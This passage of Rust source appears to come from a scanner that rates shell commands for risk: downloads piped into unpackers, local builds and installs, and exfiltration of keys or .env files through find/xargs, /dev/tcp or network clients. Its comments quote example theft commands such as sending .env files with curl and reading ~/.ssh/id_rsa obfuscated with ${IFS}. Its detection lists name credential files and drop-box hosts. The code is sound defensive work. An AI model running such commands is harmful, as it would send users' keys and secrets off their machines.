    cmd: &Command,
    line: &crate::shell::Line,
    downloaded: &[(String, String)],
) -> Option<(String, Vec<String>)> {
    let args = cmd.args();
    let words = positional(args);
    let named = |host: String| {
        let names = host_names(&host);
        (host, names)
    };
    match cmd.program() {
        // A clone is named by its host, or by the repository's own name ("clone fastlib
        // and build it").
        "git" if words.first() == Some(&"clone") => words.iter().skip(1).find_map(|w| {
            let host = url_host(w)?;
            let mut names = host_names(&host);
            let path = w.split("://").nth(1).unwrap_or(w);
            let path = path.split_once(['/', ':']).map_or("", |(_, p)| p);
            let repo = path.trim_end_matches('/').trim_end_matches(".git");
            if let Some(name) = repo.rsplit('/').next().filter(|n| n.len() > 2) {
                names.push(name.to_lowercase());
            }
            Some((host, names))
        }),
        "tar" | "bsdtar" | "unzip" | "7z" | "gunzip" | "bunzip2" | "unxz" => {
            let extracts = cmd.program() != "tar"
                || args.iter().any(|a| {
                    a == "--extract" || a == "--get" || (!a.starts_with("--") && a.contains('x'))
                });
            if !extracts {
                return None;
            }
            // Piped in from a download.
            let piped = line.commands.iter().find(|c| {
                c.pipeline == cmd.pipeline
                    && c.stage + 1 == cmd.stage
                    && catalogue::is(c.program(), Class::Downloader)
            });
            if let Some(download) = piped {
                return download
                    .args()
                    .iter()
                    .find_map(|a| {
                        if a.starts_with('-') {
                            None
                        } else {
                            url_host(a)
                        }
                    })
                    .map(named);
            }
            // A file downloaded before.
            words.iter().find_map(|w| {
                downloaded
                    .iter()
                    .find(|(file, _)| super::paths::basename_of(w) == file.as_str())
                    .map(|(_, host)| named(host.clone()))
            })
        }
        _ => None,
    }
}

/// The folder an unpacking command writes into, when it names one (`tar -C DIR`,
/// `--directory=DIR`, `unzip -d DIR`, `7z x -oDIR`).
fn unpack_folder(cmd: &Command) -> Option<String> {
    let args = cmd.args();
    // `git clone URL DIR`: the folder after the address.
    if cmd.program() == "git" && positional(args).first() == Some(&"clone") {
        let words = positional(args);
        return words
            .iter()
            .skip(1)
            .skip_while(|w| !w.contains("://") && !w.contains('@'))
            .nth(1)
            .map(|d| d.trim_end_matches('/').to_string());
    }
    let flag = match cmd.program() {
        "tar" | "bsdtar" => "-C",
        "unzip" => "-d",
        _ => {
            return args
                .iter()
                .find_map(|a| a.strip_prefix("-o").filter(|d| !d.is_empty()))
                .map(str::to_string);
        }
    };
    args.iter()
        .position(|a| a == flag)
        .and_then(|at| args.get(at + 1))
        .or_else(|| args.iter().find(|a| a.starts_with("--directory=")))
        .map(|d| {
            d.trim_start_matches("--directory=")
                .trim_end_matches('/')
                .to_string()
        })
}

/// Does a command run a file under `folder` by its path (`/tmp/x/install` after `tar xz -C
/// /tmp`), or give one to a shell or an interpreter?
fn runs_a_file_under(cmd: &Command, folder: Option<&str>) -> bool {
    let Some(folder) = folder.filter(|f| !f.is_empty()) else {
        return false;
    };
    let under = |w: &str| {
        w.len() > folder.len() && w.starts_with(folder) && w[folder.len()..].starts_with('/')
    };
    let found = catalogue::program(cmd.program());
    let shell = found.is_some_and(|p| p.is(Class::Shell) || p.is(Class::Source));
    let reads_code = found.and_then(|p| p.code).is_some_and(|code| code.stdin);
    if shell || reads_code {
        return positional(cmd.args())
            .first()
            .is_some_and(|first| under(first));
    }
    cmd.words.first().is_some_and(|w| under(w))
}

/// The package files a command installs (`dpkg -i x.deb`, `apt install ./x.deb`, `rpm -i
/// x.rpm`, `dnf install ./x.rpm`, `pacman -U x.pkg.tar.zst`, `pip install x.whl`, `npm
/// install x.tgz`, `snap install --dangerous x.snap`): what names a file.
fn installed_files(cmd: &Command) -> Vec<&str> {
    let args = cmd.args();
    let words = positional(args);
    let first = words.first().copied();
    let installs = match cmd.program() {
        "dpkg" => args.iter().any(|a| a == "-i" || a == "--install"),
        "rpm" => args.iter().any(|a| {
            a.starts_with('-') && !a.starts_with("--") && (a.contains('i') || a.contains('U'))
        }),
        "pacman" => args.iter().any(|a| a.starts_with("-U")),
        "apt" | "apt-get" | "dnf" | "yum" | "zypper" | "pip" | "pip3" | "npm" | "pnpm" | "yarn"
        | "gem" | "snap" | "flatpak" => {
            matches!(first, Some("install" | "localinstall" | "add" | "in" | "i"))
        }
        _ => false,
    };
    if !installs {
        return Vec::new();
    }
    words
        .into_iter()
        .filter(|w| {
            [
                ".deb",
                ".rpm",
                ".pkg.tar.zst",
                ".pkg.tar.xz",
                ".whl",
                ".tgz",
                ".tar.gz",
                ".gem",
                ".snap",
                ".flatpak",
                ".apk",
            ]
            .iter()
            .any(|end| w.ends_with(end))
        })
        .collect()
}

/// Does a command run a file of the work folder as code: by its path (`./install.sh`,
/// `bin/setup`), or a shell or interpreter given a file (`sh install.sh`, `python3
/// setup.py`)?
/// A build or an install of the project in the folder it runs in, which runs that project's
/// own code: its makefile's recipes (`make`, `make install`), its package's install scripts
/// (`npm install`, `yarn`, `pnpm i`, `bun install` with no package named), its setup (`pip
/// install .`, `python setup.py install`), its configure script, cargo's build scripts
/// (`cargo build`, `cargo install --path .`).
fn builds_a_project(cmd: &Command) -> bool {
    let args = cmd.args();
    let words = positional(args);
    match cmd.program() {
        "make" | "gmake" | "bmake" | "ninja" | "meson" | "cmake" => true,
        "npm" | "pnpm" | "yarn" | "bun" => match words.first() {
            None => cmd.program() == "yarn",
            Some(&("install" | "i" | "ci" | "add")) => words.len() == 1,
            _ => false,
        },
        "pip" | "pip3" | "uv" => {
            let install = words.iter().position(|w| *w == "install");
            install.is_some_and(|at| words.get(at + 1..).is_some_and(|rest| rest.contains(&".")))
        }
        "python" | "python3" => words.first() == Some(&"setup.py"),
        "cargo" => {
            matches!(words.first(), Some(&("build" | "run" | "test" | "install")))
                && (words.first() != Some(&"install") || args.iter().any(|a| a == "--path"))
        }
        _ => false,
    }
}

fn runs_a_local_file(cmd: &Command) -> bool {
    let found = catalogue::program(cmd.program());
    let local = |w: &str| {
        !w.starts_with('/') && !w.starts_with('~') && !w.starts_with('-') && !w.contains("://")
    };
    let shell = found.is_some_and(|p| p.is(Class::Shell) || p.is(Class::Source));
    // Any interpreter runs the file it is given (`java -jar x/app.jar`, `python3 x/setup.py`).
    let interpreter = found.is_some_and(|p| p.is(Class::Interpreter));
    if shell || interpreter {
        return positional(cmd.args())
            .first()
            .is_some_and(|first| local(first) && *first != "-");
    }
    // A path names that file, not the program of its name (`./x/install` is no `install`).
    cmd.words.first().is_some_and(|w| {
        w.contains('/')
            && local(w)
            && (w.starts_with("./") || w.starts_with("../") || catalogue::program(w).is_none())
    })
}

/// A way out run for each file `find` or `xargs` hands it, where what is handed is keys or
/// the project's secrets (`find . -name '.env*' -exec curl -F f=@{} …`).
pub(super) fn handed_secrets(scan: &mut Scan<'_>) {
    let line = scan.line;
    for cmd in &line.commands {
        if !(matches!(cmd.via, Via::FindExec | Via::Xargs) && is_way_out(cmd)) {
            continue;
        }
        let source_text: String = match cmd.via {
            Via::FindExec => scan
                .parent(cmd)
                .map(|finder| finder.args().join(" "))
                .unwrap_or_default(),
            _ => line
                .commands
                .iter()
                .filter(|c| {
                    cmd.parent
                        .and_then(|p| line.commands.get(p))
                        .is_some_and(|holder| {
                            c.pipeline == holder.pipeline && c.stage < holder.stage
                        })
                })
                .flat_map(|c| c.args().iter().cloned())
                .collect::<Vec<_>>()
                .join(" "),
        };
        if source_text.contains(".ssh")
            || source_text.contains("id_rsa")
            || source_text.contains("id_ed25519")
            || source_text.contains(".aws")
        {
            key_leaves(scan, "send the keys it finds off this machine");
        } else if source_text.contains(".env") {
            env_leaves(scan, "send the .env files it finds off this machine");
        }
    }
}

/// Key files named anywhere in a line that could not be read fully or runs something only
/// known when it runs (`cat${IFS}~/.ssh/id_rsa`): unknown never lowers a score.
pub(super) fn keys_in_unknown(text: &str, scan: &mut Scan<'_>) {
    let unclear =
        scan.line.unknown.is_some() || scan.line.commands.iter().any(|c| c.dynamic_program);
    if !unclear {
        return;
    }
    let marks = [
        ".ssh/id_",
        ".aws/credentials",
        ".netrc",
        ".git-credentials",
        ".config/gcloud",
        ".docker/config.json",
        "/etc/shadow",
    ];
    if marks.iter().any(|m| text.contains(m)) {
        key_leaves(scan, "a command that can't be read fully names a key file");
    }
}

fn download_host(cmd: &Command, line: &crate::shell::Line) -> Option<String> {
    line.commands
        .iter()
        .filter(|c| {
            c.pipeline == cmd.pipeline
                && (is_downloader(c.program()) || catalogue::is(c.program(), Class::Network))
        })
        .find_map(answering_host)
}

/// The other machine a client's arguments name: an address, `user@host`, or a name a
/// lookup asks about (`cmd.example.net`); not an option, nor dig's `@server`.
fn answering_host(cmd: &Command) -> Option<String> {
    cmd.args().iter().find_map(|a| {
        if a.starts_with('-') || a.starts_with('@') {
            None
        } else {
            url_host(a).or_else(|| {
                (a.contains('.')
                    && a.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')))
                .then(|| a.trim_end_matches('.').to_ascii_lowercase())
            })
        }
    })
}

/// A client of another machine, or a command wired to a raw socket.
/// A cloud, cluster or hosted service's CLI (`gh`, `aws`, `kubectl`): what it is given
/// reaches the service.
fn is_service_cli(cmd: &Command) -> bool {
    catalogue::is(cmd.program(), Class::Cloud)
}

fn is_way_out(cmd: &Command) -> bool {
    sends::is_client(cmd)
        // git talking to an address (`git ls-remote https://host/$(…)`): what its words
        // carry reaches that host.
        || (cmd.program() == "git" && cmd.args().iter().any(|a| a.contains("://")))
        || cmd
            .redirects
            .iter()
            .any(|r| r.target.starts_with("/dev/tcp/") || r.target.starts_with("/dev/udp/"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_read_from_addresses() {
        for (text, want) in [
            ("https://api.example.com/v1?x=1", Some("api.example.com")),
            ("http://user:pw@10.0.0.1:8080/x", Some("10.0.0.1")),
            ("example.com/upload", Some("example.com")),
            ("localhost:3000/health", Some("localhost")),
            ("./file.txt", None),
        ] {
            assert_eq!(url_host(text).as_deref(), want, "{text}");
        }
        assert!(is_drop_box("webhook.site"));
        assert!(is_drop_box("abc.ngrok.io"));
        assert!(!is_drop_box("github.com"));
    }
}
